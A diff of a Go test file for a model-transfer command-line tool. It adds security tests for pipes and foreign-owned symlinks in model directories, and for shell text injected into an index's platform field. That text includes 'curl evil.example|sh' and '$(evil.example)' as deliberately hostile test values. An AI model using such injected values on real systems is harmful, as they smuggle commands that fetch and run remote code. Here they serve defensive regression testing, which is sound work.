@@ -14,6 +14,7 @@ import (
 	"sync/atomic"
 	"syscall"
 	"testing"
+	"time"
 
 	"github.com/modeltransfer/transfer/model"
 	"github.com/modeltransfer/transfer/registry"
@@ -21,31 +22,6 @@ import (
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 )
-
-// titled is a layer of a name, as JSON.
-func titled(d descriptor, title string) string {
-	return fmt.Sprintf(`{"mediaType":"a/b","digest":%q,"size":%d,`+
-		`"annotations":{"org.opencontainers.image.title":%q}}`, d.Digest, d.Size, title)
-}
-
-// of is a model of layers.
-func (reg *anyRegistry) of(layers ...string) registry.Manifest {
-	text := fmt.Appendf(nil,
-		`{"schemaVersion":2,"mediaType":%q,"config":{"mediaType":"a/b","digest":%q,"size":2},"layers":[%s]}`,
-		registry.MediaTypeManifest, reg.put("{}").Digest, strings.Join(layers, ","))
-	return reg.putManifest(text, registry.MediaTypeManifest)
-}
-
-// listed is the entry of a manifest in an index, as JSON.
-func listed(m registry.Manifest) string {
-	return fmt.Sprintf(`{"mediaType":%q,"digest":%q,"size":%d}`, m.MediaType, m.Digest, len(m.Data))
-}
-
-// indexOf is an index that lists a manifest.
-func indexOf(m registry.Manifest) registry.Manifest {
-	return registry.NewManifest(fmt.Appendf(nil, `{"schemaVersion":2,"mediaType":%q,"manifests":[%s]}`,
-		registry.MediaTypeIndex, listed(m)), "")
-}
 
 func TestH2NoModelMakesItsDirectoryOneOfBlobs(t *testing.T) {
 	reg := newAnyRegistry(t)
@@ -189,6 +165,82 @@ func TestH8ARecordOfAnotherUserIsNotTrusted(t *testing.T) {
 	}
 }
 
+// A link of our own may lead to a pipe, as in a directory that somebody else has packed.
+func TestH10APipeInThePlaceOfADirectoryHoldsNoCommand(t *testing.T) {
+	reg := newAnyRegistry(t)
+	honest := reg.ref(reg.model(map[string]string{"a": "honest a"}))
+	for _, test := range []struct {
+		form, place string
+		commands    []string
+	}{
+		{"files", stateDir, []string{"verify", "prune", "push", "repair", "pull"}},
+		{"oci", stateDir, []string{"prune", "repair", "pull"}},
+		{"oci", "blobs", []string{"verify", "prune", "push", "repair", "pull"}},
+		{"oci", "blobs/sha256", []string{"verify", "prune", "push", "repair", "pull"}},
+		{"ollama", "blobs", []string{"verify", "prune", "push", "repair", "pull"}},
+		{"ollama", "manifests", []string{"verify", "prune", "push", "repair", "pull"}},
+	} {
+		for _, command := range test.commands {
+			dir := filepath.Join(t.TempDir(), "dir")
+			must(t, "pull", "--into", test.form, honest, dir)
+			place := filepath.Join(dir, filepath.FromSlash(test.place))
+			pipe := filepath.Join(t.TempDir(), "pipe")
+			require.NoError(t, os.RemoveAll(place))
+			require.NoError(t, syscall.Mkfifo(pipe, 0o600))
+			link(t, pipe, place)
+			done := make(chan result, 1)
+			go func() {
+				done <- runWith(t, map[string][]string{
+					"verify": {"verify", dir}, "repair": {"verify", "--from", honest, dir},
+					"prune": {"prune", dir}, "push": {"push", dir, reg.url + "/pushed/m:v1"},
+					"pull": {"pull", "--into", test.form, honest, dir},
+				}[command]...)
+			}()
+			select {
+			case <-done:
+			case <-time.After(20 * time.Second):
+				t.Fatalf("%s of %s with a pipe behind %s does not end", command, test.form, test.place)
+			}
+		}
+	}
+}
+
+// Neither a repair nor a copy writes to where another user has led its directory.
+func TestH8NothingIsWrittenThroughDirectoriesThatAreLinksOfAnotherUser(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("only root can make a link of somebody else")
+	}
+	reg := newAnyRegistry(t)
+	honest := reg.ref(reg.model(map[string]string{"a": "honest a"}))
+	foreign := func(name string) (victim string) {
+		victim = t.TempDir()
+		require.NoError(t, os.RemoveAll(name))
+		link(t, victim, name)
+		require.NoError(t, os.Lchown(name, 12345, 12345))
+		return victim
+	}
+	empty := func(dir string, args ...string) {
+		r := runWith(t, args...)
+		assert.Equal(t, exitFailed, r.code, "%v: %s", args, r.stderr)
+		entries, err := os.ReadDir(dir)
+		require.NoError(t, err)
+		assert.Empty(t, entries, "%v", args)
+	}
+	dir := filepath.Join(t.TempDir(), "models")
+	must(t, "pull", "--into", "ollama", honest, dir)
+	victim := foreign(filepath.Join(dir, "blobs"))
+	empty(victim, "verify", "--from", honest, dir)
+	empty(victim, "pull", "--into", "ollama", honest, dir)
+
+	shared, target := t.TempDir(), refusing(t, startedServer(t), http.MethodPut)
+	command := []string{"copy", "--dir", shared, honest, target + "/me/m:v1"}
+	require.Equal(t, exitFailed, runWith(t, command...).code)
+	entries, err := os.ReadDir(shared)
+	require.NoError(t, err)
+	require.Len(t, entries, 1)
+	empty(foreign(filepath.Join(shared, entries[0].Name())), command...)
+}
+
 func TestH9NoCommandIsShownThatARecordHasMadeUp(t *testing.T) {
 	reg := newAnyRegistry(t)
 	for from, want := range map[string]string{
@@ -211,6 +263,27 @@ func TestH9NoCommandIsShownThatARecordHasMadeUp(t *testing.T) {
 		require.NoError(t, os.WriteFile(record, data, 0o600))
 		require.NoError(t, os.Remove(filepath.Join(dir, "a")))
 		assert.True(t, strings.HasSuffix(runWith(t, "verify", dir).stderr, want), from)
+	}
+}
+
+// What a person is told to choose may be typed into a shell.
+func TestH9NoCommandIsShownThatAnIndexHasMadeUp(t *testing.T) {
+	reg := newAnyRegistry(t)
+	var list []string
+	for i, platform := range []string{"amd64; curl evil.example|sh #", "a evil.example", "$(evil.example)"} {
+		m := reg.model(map[string]string{"a": fmt.Sprint(i)})
+		list = append(list, strings.TrimSuffix(listed(m), "}")+
+			fmt.Sprintf(`,"platform":{"os":"linux","architecture":%q}}`, platform))
+	}
+	index := reg.putManifest(fmt.Appendf(nil, `{"schemaVersion":2,"mediaType":%q,"manifests":[%s]}`,
+		registry.MediaTypeIndex, strings.Join(list, ",")), registry.MediaTypeIndex)
+	for _, args := range [][]string{
+		{"pull", reg.ref(index), t.TempDir()}, {"inspect", "--platform", "a/b", reg.ref(index)},
+	} {
+		r := runWith(t, args...)
+		assert.NotContains(t, r.stderr, "evil.example")
+		one := strings.TrimPrefix(reg.url, "http://") + "/evil/model@sha256:"
+		assert.Contains(t, r.stderr, "choose one by its digest, such as "+one)
 	}
 }
 
